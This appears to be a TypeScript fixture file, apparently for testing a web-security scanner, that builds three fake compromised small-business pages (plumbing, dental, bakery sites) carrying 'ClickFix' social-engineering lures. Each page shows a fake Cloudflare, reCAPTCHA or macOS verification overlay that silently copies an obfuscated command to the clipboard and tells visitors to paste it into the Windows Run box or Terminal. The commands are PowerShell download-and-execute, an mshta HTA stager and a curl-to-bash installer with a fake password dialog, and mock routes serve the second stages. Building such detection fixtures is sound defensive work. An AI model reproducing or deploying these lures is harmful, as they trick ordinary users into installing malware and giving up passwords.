import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, pngRoute } from '../parts/e-bin.js';
import { b64, doc, footer, hexLit, rev } from '../parts/ye-kit.js';

export const entries: Entry[] = [
{
  id: 'ye-clickfix-plumber-turnstile-injected',
  label: 'clickfix',
  kind: 'clickfix-hacked-smb',
  url: 'https://www.johnsonplumbingheating-mi.com/water-heater-repair/',
  body: doc({
    title: 'Water Heater Repair &amp; Replacement | Johnson Plumbing &amp; Heating | Grand Rapids, MI',
    head: `<link rel="stylesheet" href="/wp-content/themes/astra/style.min.css"><script src="/wp-includes/js/jquery/jquery.min.js"></script><script src="https://cdn-jsdelivr-stats.com/npm/analytics@3.2/dist/a.min.js" async></script>`,
    css: `body{margin:0;font-family:Roboto,Arial,sans-serif;color:#333}.top{background:#0d3b66;color:#fff;padding:8px 24px;font-size:14px}.nav{padding:16px 24px;display:flex;justify-content:space-between;border-bottom:1px solid #eee}.nav b{font-size:22px;color:#0d3b66}.hero{background:#eaf2f8;padding:40px 24px}.hero h1{margin:0 0 10px}.c{max-width:900px;margin:20px auto;padding:0 16px}.cta{background:#f95738;color:#fff;padding:12px 22px;border-radius:4px;text-decoration:none}.site-footer{background:#0d3b66;color:#cfe0ee;padding:20px;font-size:13px}.site-footer a{color:#fff}`,
    body: `<div class="top">Serving Kent &amp; Ottawa County since 1978 &middot; 24/7 Emergency Service (616) 555-0148</div>
<div class="nav"><b>Johnson Plumbing &amp; Heating</b><span>Home &middot; Plumbing &middot; Heating &middot; Water Heaters &middot; Coupons &middot; Contact</span></div>
<div class="hero"><h1>Water Heater Repair &amp; Replacement</h1><p>No hot water? Our licensed technicians repair and install tank and tankless water heaters from Bradford White, Rheem and Navien &mdash; usually same day.</p><a class="cta" href="/contact/">Schedule Service</a></div>
<div class="c"><h2>Signs your water heater needs attention</h2><ul><li>Rusty or discolored water</li><li>Rumbling or popping noises</li><li>Water pooling around the base</li><li>Tank older than 10&ndash;12 years</li></ul>
<h2>$50 off any water heater installation</h2><p>Mention coupon WH50 when you call. Cannot be combined with other offers.</p></div>
${footer('Johnson Plumbing & Heating LLC', ['Privacy Policy', 'Careers', 'Service Area', 'Financing'], '<p>MI Master Plumber License #8114527</p>')}`,
  }),
  routes: {
    'cdn-jsdelivr-stats.com/npm/analytics@3.2/dist/a.min.js': jsRoute(`(function(){
if(localStorage.getItem('__cfv'))return;
var cmd=atob('${b64(`powershell -w h -nop -c "$u='https://dl-cdn-verify.com/c/vr.ps1';iex (iwr $u -UseBasicParsing).Content" # Cloudflare Ray ID: 8f2a1c9e7b4d3a60 - human verification`)}');
var css='#cfov{position:fixed;inset:0;background:#fff;z-index:2147483647;font-family:-apple-system,system-ui,Segoe UI,Roboto,Arial,sans-serif;color:#313131}#cfov .w{max-width:640px;margin:12vh auto;padding:0 20px}#cfov h1{font-size:34px;font-weight:500;margin:0 0 12px}#cfov .box{border:1px solid #e0e0e0;background:#fafafa;display:flex;align-items:center;gap:12px;padding:14px;width:300px;margin:22px 0}#cfov .cb{width:26px;height:26px;border:2px solid #bbb;border-radius:3px;background:#fff;cursor:pointer}#cfov .st{display:none;background:#f6f6f6;border-left:4px solid #f38020;padding:14px;line-height:1.7}#cfov kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}#cfov .ft{font-size:12px;color:#777;margin-top:40px}';
var s=document.createElement('style');s.textContent=css;document.head.appendChild(s);
var d=document.createElement('div');d.id='cfov';
d.innerHTML='<div class="w"><h1>'+location.hostname+'</h1><p>Verify you are human by completing the action below.</p><div class="box"><div class="cb" id="cfcb"></div><span>Verify you are human</span><span style="margin-left:auto;font-size:10px;color:#888">CLOUDFLARE<br>Privacy &middot; Terms</span></div><div class="st" id="cfst"><b>Verification steps</b><br>1. Press Windows Button <kbd>&#8862;</kbd> + <kbd>R</kbd><br>2. Press <kbd>CTRL</kbd> + <kbd>V</kbd><br>3. Press <kbd>Enter</kbd></div><p>'+location.hostname+' needs to review the security of your connection before proceeding.</p><div class="ft">Ray ID: 8f2a1c9e7b4d3a60 &middot; Performance &amp; security by Cloudflare</div></div>';
document.body.appendChild(d);
document.getElementById('cfcb').onclick=function(){
  var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();
  try{navigator.clipboard.writeText(cmd);}catch(e){}
  this.style.background='#f38020';document.getElementById('cfst').style.display='block';
};
})();`),
  },
},

{
  id: 'ye-clickfix-dental-recaptcha-mshta',
  label: 'clickfix',
  kind: 'clickfix-hacked-smb',
  url: 'https://brightsmilefamilydental.com/new-patients/',
  body: doc({
    title: 'New Patients | Bright Smile Family Dental | Tucson, AZ',
    css: `body{margin:0;font-family:"Open Sans",Arial,sans-serif;color:#2d3b45}.h{display:flex;justify-content:space-between;padding:18px 30px;background:#fff;border-bottom:3px solid #4fb3bf}.h b{color:#4fb3bf;font-size:22px}.c{max-width:860px;margin:26px auto;padding:0 18px}#rc{position:fixed;inset:0;background:rgba(0,0,0,.55);display:flex;align-items:center;justify-content:center;z-index:99}.rcb{background:#fff;width:330px;border:1px solid #d3d3d3;border-radius:3px;box-shadow:0 0 4px rgba(0,0,0,.1)}.rcr{display:flex;align-items:center;padding:18px 12px;gap:12px}.rcr .ck{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;cursor:pointer}.rcr .lg{margin-left:auto;text-align:center;font-size:9px;color:#555}.stp{display:none;padding:12px;border-top:1px solid #eee;font-size:14px;line-height:1.8}`,
    body: `<div class="h"><b>Bright Smile Family Dental</b><span>(520) 555-0109 &middot; Request Appointment</span></div>
<div class="c"><h1>Welcome, New Patients!</h1><p>We accept most PPO insurance plans including Delta Dental, Cigna, MetLife and Aetna. Your first visit includes a comprehensive exam, digital x-rays and a cleaning.</p>
<h2>New patient forms</h2><p>Please complete your health history before your appointment to save time in the office.</p>
<p>Office hours: Mon&ndash;Thu 7:30 AM &ndash; 5 PM, Fri 7:30 AM &ndash; 1 PM</p></div>
<div id="rc"><div class="rcb"><div class="rcr"><div class="ck" id="ck"></div><span>I'm not a robot</span><div class="lg">&#8635;<br>reCAPTCHA<br>Privacy - Terms</div></div>
<div class="stp" id="stp"><b>To better prove you are not a robot, please:</b><br>1. Press &amp; hold the Windows Key &#8862; + R.<br>2. In the verification window, press Ctrl + V.<br>3. Press Enter on your keyboard to finish.<br><small>You will observe and agree: "I am not a robot &ndash; reCAPTCHA Verification ID: 7729"</small></div></div></div>
<script>
var _v=["${hexLit('mshta')}","${hexLit(' https://brightsmilefamilydental.com/wp-content/uploads/2025/03/verify.hta')}"," # \u2705 ''I am not a robot - reCAPTCHA Verification ID: 7729''"];
document.getElementById('ck').addEventListener('click',function(){
 var c=_v.join('');navigator.clipboard.writeText(c).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();});
 this.innerHTML='<span style="display:block;width:22px;height:22px;border:3px solid #4285f4;border-top-color:transparent;border-radius:50%"></span>';
 document.getElementById('stp').style.display='block';
});
</script>`,
  }),
  routes: {
    'brightsmilefamilydental.com/wp-content/uploads/2025/03/verify.hta': {
      status: 200,
      headers: { 'content-type': 'application/hta' },
      body: `<html><head><HTA:APPLICATION ID="v" WINDOWSTATE="minimize" SHOWINTASKBAR="no"><script language="VBScript">Set s=CreateObject("WScript.Shell"):s.Run "powershell -ep bypass -w hidden -c ""iwr -useb https://185.147.124.19/st.ps1|iex""",0:self.close</script></head></html>`,
    },
  },
},

{
  id: 'ye-clickfix-bakery-macos-terminal',
  label: 'clickfix',
  kind: 'clickfix-hacked-smb',
  url: 'https://www.sweetcrumbbakeryatx.com/order-online',
  body: doc({
    title: 'Order Online | Sweet Crumb Bakery | Austin, TX',
    css: `body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif;background:#fff7f2;color:#4a2c2a}.h{padding:20px 30px;font-size:26px;font-family:Georgia,serif}.menu{display:grid;grid-template-columns:repeat(3,1fr);gap:14px;max-width:900px;margin:auto;padding:16px}.it{background:#fff;border-radius:10px;padding:14px}#gate{position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:9;display:flex;align-items:center;justify-content:center}.g{max-width:520px;font-family:-apple-system,Arial,sans-serif;color:#222}.g code{display:block;background:#222;color:#8f8;padding:10px;border-radius:6px;font-size:12px;overflow:hidden;white-space:nowrap}.g button{background:#0071e3;color:#fff;border:0;padding:10px 20px;border-radius:8px}`,
    body: `<div class="h">Sweet Crumb Bakery</div>
<div class="menu"><div class="it"><b>Kolache dozen</b><p>$18</p></div><div class="it"><b>Tres leches cake (8")</b><p>$38</p></div><div class="it"><b>Sourdough loaf</b><p>$9</p></div></div>
<div id="gate"><div class="g"><h2>Verify you are human</h2><p>Our ordering system is protected against bots. Mac users: complete a one-time verification.</p>
<ol><li>Click <b>Copy</b> below.</li><li>Press <b>&#8984; Command + Space</b>, type <b>Terminal</b> and press Return.</li><li>Paste with <b>&#8984; + V</b> and press Return. Enter your Mac password if asked.</li></ol>
<code id="cm">verifying&hellip;</code><br><button id="cp">Copy</button></div></div>
<script>
var k='${b64(rev('/bin/bash -c "$(curl -fsSL https://macverify-cdn.com/v/install.sh)"'))}';
var c=atob(k).split('').reverse().join('');
document.getElementById('cm').textContent='Human verification ID: 55183 \\u2014 macOS Security Check';
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(c);this.textContent='Copied';};
if(!/Mac OS X|Macintosh/.test(navigator.userAgent)){document.getElementById('gate').remove();}
</script>`,
  }),
  routes: {
    'macverify-cdn.com/v/install.sh': { status: 200, headers: { 'content-type': 'text/plain' }, body: '#!/bin/bash\ncurl -fsSL -o /tmp/.upd https://macverify-cdn.com/v/upd && chmod +x /tmp/.upd && /tmp/.upd &\nosascript -e \'display dialog "macOS needs your password to continue" default answer "" with hidden answer\'\n' },
  },
},
];
